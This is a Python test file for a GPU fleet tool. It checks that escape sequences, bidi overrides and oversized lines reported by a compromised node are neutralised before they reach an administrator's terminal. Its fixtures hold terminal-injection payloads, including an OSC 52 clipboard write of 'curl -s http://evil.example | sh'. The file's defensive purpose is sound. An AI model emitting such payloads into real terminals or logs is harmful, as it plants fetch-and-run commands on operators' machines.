"""Attacks by a compromised node on the administrator's terminal: the text it reports (its
os-release, its tools' output, its reboot reasons, its names) carrying escape sequences
(OSC 0 retitles the window, OSC 52 writes the clipboard, CSI 2J clears the screen), C1
controls, a bidi override and a 1 MB line. Through every human output path (pyinfra's
refusal and warning lines, the audit's screens, ``check``'s report, the roll's log) the text
comes out ``visible`` (``model.untrusted``) and bounded; ``--format json`` keeps the exact
value.
"""

from __future__ import annotations

import base64
import io
import json
import logging
import re
from dataclasses import replace

import pytest

from rocm_fleet.audit import screens
from rocm_fleet.cli.tables import Screen
from rocm_fleet.model.untrusted import LIMIT, VISIBLE_LOG, visible
from unit.audit.test_audit import DATA, SurveyHost, converged, fresh_survey, gather
from unit.checks.test_report import report_of
from unit.roll.test_roll import Cluster, Node, Recorder, roll
from unit.surveys import plan

TITLE = "\x1b]0;pwned\x07"
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl -s http://evil.example | sh\n").decode() + "\x07"
CLEAR = "\x1b[2J\x1b[H"
BIDI = "\u202e\u2066"  # right-to-left override, left-to-right isolate
C1 = "\x9b2J\x85"  # 8-bit CSI, next line
EVIL = f"12{TITLE}{CLIPBOARD}{CLEAR}{BIDI}{C1}"
HUGE = "A" * 1_000_000 + TITLE

# The colours rich and click draw (SGR, ``ESC [ ... m``): the only escapes allowed out.
COLOURS = re.compile(r"\x1b\[[0-9;]*m")
UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")


def assert_harmless(text: str, bound: int = 3 * LIMIT) -> None:
    """No control or bidi character but our own colours and line ends; no line over
    ``bound``."""
    found = UNSAFE.findall(COLOURS.sub("", text))
    assert not found, found
    assert max(len(line) for line in text.splitlines()) <= bound


def test_visible_writes_out_controls_and_bidi_and_keeps_ordinary_text():
    assert visible(TITLE) == "\\x1b]0;pwned\\x07"
    assert visible(BIDI + C1) == "\\u202e\\u2066\\x9b2J\\x85"
    assert visible("a\tb\nc\r\x7f") == "a\\tb\\nc\\r\\x7f"
    ordinary = "Debian GNU/Linux 12 (bookworm) — Überprüft, 日本語, عربي, 👨‍👩‍👧 [x] ~$"
    assert visible(ordinary) == ordinary  # letters of any script, emoji joiners: unchanged
    assert visible(HUGE) == "A" * LIMIT + "…"
    assert visible(HUGE, limit=10) == "A" * 10 + "…"
    assert_harmless(visible(EVIL))


# --- pyinfra's refusal and warning lines ------------------------------------------------------


def logged(caplog) -> str:
    return "\n".join(record.getMessage() for record in caplog.records)


@pytest.mark.parametrize("value", [EVIL, HUGE])
def test_a_refusal_quoting_the_nodes_distro_is_visible_and_its_reason_exact(caplog, value):
    survey = fresh_survey()
    survey = replace(survey, distro={**survey.distro, "id": "debian" + value})
    with caplog.at_level(logging.INFO, logger="pyinfra"):
        planned = plan(DATA, SurveyHost(survey))
    assert planned.refused and value in planned.reason  # the record keeps it exact
    line = next(r.getMessage() for r in caplog.records if "refused: " in r.getMessage())
    assert "debian12\\x1b]0;pwned\\x07" in line or line.endswith("…")
    assert_harmless(logged(caplog))


def test_a_warning_quoting_the_nodes_version_is_visible(caplog):
    survey = fresh_survey()
    survey = replace(survey, distro={**survey.distro, "version_id": EVIL})
    with caplog.at_level(logging.INFO, logger="pyinfra"):
        plan({**DATA, "rocm_distro_override": "debian 12"}, SurveyHost(survey))
    text = logged(caplog)
    assert "warning: debian 12\\x1b]0;pwned\\x07" in text
    assert_harmless(text)


def test_pyinfras_own_lines_of_a_nodes_output_are_visible_once_the_deploy_runs(caplog):
    """pyinfra prints a failed command's output itself; the deploy's ``VisibleLog`` filter
    writes out its controls, keeping pyinfra's colours and line breaks."""
    from pyinfra.api.util import print_host_combined_output
    from pyinfra.connectors.util import CommandOutput, OutputLine

    planned = plan(DATA, SurveyHost(fresh_survey()))
    node = planned.state.inventory.get_host("node")
    output = CommandOutput([OutputLine("stderr", "E: " + EVIL), OutputLine("stdout", HUGE)])
    with caplog.at_level(logging.INFO, logger="pyinfra"):
        print_host_combined_output(node, output)
        node.log_styled("two\nlines", fg="red")
    text = logged(caplog)
    assert "E: 12\\x1b]0;pwned\\x07" in text and "two\nlines" in text
    assert_harmless(text)
    coloured = logging.LogRecord(
        "pyinfra", logging.ERROR, "", 0, "%s", ("\x1b[31mred\x1b[0m",), None
    )
    VISIBLE_LOG.filter(coloured)
    assert coloured.getMessage() == "\x1b[31mred\x1b[0m"  # pyinfra's own colours stay
    # a control beside, inside or instead of a colour is written out all the same
    for said, shown in [
        ("\x1b[31mred\x1b[0m\x07", "\x1b[31mred\x1b[0m\\x07"),
        ("\x1b[3\x1b[0m1m", "\\x1b[3\x1b[0m1m"),
        ("\x1b]0;t\x07\x1b[0m", "\\x1b]0;t\\x07\x1b[0m"),
        ("\x1b[0m\u202e", "\x1b[0m\\u202e"),
    ]:
        record = logging.LogRecord("pyinfra", logging.INFO, "", 0, "%s", (said,), None)
        VISIBLE_LOG.filter(record)
        assert record.getMessage() == shown, said


# --- the audit --------------------------------------------------------------------------------


@pytest.fixture
def evil_rows(monkeypatch):
    """A converged host whose os-release and reboot reasons carry the attack, one whose
    reason is a 1 MB line, and one refused for a distro named with it."""
    seen = converged()
    lying = converged(
        distro={**seen.distro, "point_release": EVIL},
        reboot={"required": True, "packages": [], "reasons": [EVIL]},
    )
    long = converged(reboot={"required": True, "packages": [], "reasons": [HUGE]})
    refused = fresh_survey()
    refused = replace(refused, distro={**refused.distro, "id": "debian" + EVIL})
    return gather(
        monkeypatch,
        {
            "lying": (DATA, SurveyHost(lying)),
            "long": (DATA, SurveyHost(long)),
            "refused": (DATA, SurveyHost(refused)),
        },
    )


def test_the_audits_screens_show_the_nodes_text_visibly_and_bounded(evil_rows):
    summary = screens.render_summary(evil_rows, colour=True, verbose=True, width=100)
    assert "\\x1b]52;c;" in summary  # shown, as text
    assert_harmless(summary)
    quiet = screens.render_summary(evil_rows, colour=False, width=100)
    assert_harmless(quiet)
    wide = screens.render_table(evil_rows, colour=True)
    assert "12\\x1b]0;pwned\\x07" in wide
    assert_harmless(wide, bound=10 * LIMIT)  # a row of cells, each at most LIMIT
    progress = io.StringIO()
    screens.Progress(progress)(replace(evil_rows[0], host="n" + TITLE), 1, 1)
    assert_harmless(progress.getvalue())


def test_the_audits_json_keeps_the_exact_values(evil_rows):
    hosts = {h["host"]: h for h in json.loads(screens.render_json(evil_rows, 1))["hosts"]}
    lying = hosts["lying"]["cells"]
    assert lying["distro"]["text"] == f"debian {EVIL}"
    assert lying["reboot"]["reasons"] == [EVIL]
    assert hosts["long"]["cells"]["reboot"]["reasons"] == [HUGE]
    assert EVIL in hosts["refused"]["error"]


# --- check's report ---------------------------------------------------------------------------


def test_checks_report_shows_a_failing_checks_node_text_visibly(tmp_path):
    checks = tmp_path / "test_evil.py"
    checks.write_text(
        "import pytest\n"
        f"EVIL = {EVIL!r}\n"
        f"HUGE = {HUGE[-100:]!r} * 20000\n"
        "@pytest.mark.parametrize('host', ['node1'], ids=['node1' + EVIL])\n"
        "def test_rocm_source(host):\n"
        "    assert False, 'the rocm source says ' + EVIL\n"
        "@pytest.mark.parametrize('host', ['node1'], ids=['node1'])\n"
        "def test_rocminfo(host):\n"
        "    raise RuntimeError(HUGE)\n"
    )
    text = report_of(checks, Screen(width=1000))  # wide: each quoted text on one line
    assert "FAILED" in text and "the rocm source says 12\\x1b]0;pwned\\x07" in text
    assert "node112\\x1b]0;pwned\\x07" in text
    assert_harmless(text)


# --- the roll ---------------------------------------------------------------------------------


def test_the_rolls_log_shows_node_and_slurm_text_visibly():
    cluster = Cluster(Node("gpu1"), Node("gpu2", flags={"DRAIN"}, reason="admin " + EVIL))
    recorder = Recorder(cluster, failing={"gpu1": "torch sees 0 GPUs: " + EVIL + HUGE})
    _status, out = roll(cluster, recorder, ["gpu2", "gpu1"])
    assert "FAILED: node checks failed: torch sees 0 GPUs: 12\\x1b]0;pwned\\x07" in out
    assert "admin 12\\x1b]0;pwned\\x07" in out
    assert_harmless(out)


# --- metrics on a terminal ----------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["openmetrics", "prometheus"])
def test_the_audits_metrics_keep_the_exact_text_in_a_file_and_show_it_on_a_terminal(evil_rows, fmt):
    """OpenMetrics escapes only backslash, quote and line break: the exact text goes to a file
    or a pipe (the collector's), a terminal gets it written out, each line where it was."""
    from rocm_fleet.audit import metrics
    from rocm_fleet.audit.command import for_terminal

    text = metrics.render(evil_rows, fmt, now=1764460800.0)
    assert TITLE in text  # the exact value, for Prometheus
    assert for_terminal(text, io.StringIO()) == text
    shown = for_terminal(text, Terminal())
    assert_harmless(shown, bound=len(text) * 4)
    assert "\\x1b]0;pwned\\x07" in shown
    assert len(shown.split("\n")) == len(text.split("\n"))
